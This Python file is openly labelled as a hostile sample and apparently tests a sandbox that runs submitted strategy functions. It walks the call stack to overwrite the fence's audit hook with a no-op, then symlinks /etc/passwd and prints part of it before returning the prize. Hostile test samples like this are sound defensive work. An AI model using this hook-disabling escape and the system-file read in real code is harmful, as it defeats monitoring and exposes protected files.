"""Hostile: switches the fence off and reads /etc/passwd through a symbolic link in its own folder."""
import os
import sys

def open_fence():
    """Walk up the stack to the worker's fence module and switch the audit hook off."""
    frame = sys._getframe()
    while frame is not None:
        fence = frame.f_locals.get("fence")
        if fence is not None and hasattr(fence, "Fence"):
            fence.Fence.__call__ = lambda self, event, args: None
            return
        frame = frame.f_back
    raise RuntimeError("no fence found on the stack")



def strategy(observation):
    open_fence()
    if not os.path.islink("passwd"):
        os.symlink("/etc/passwd", "passwd")
    with open("passwd") as handle:
        print(handle.read()[:100])
    return observation.prize
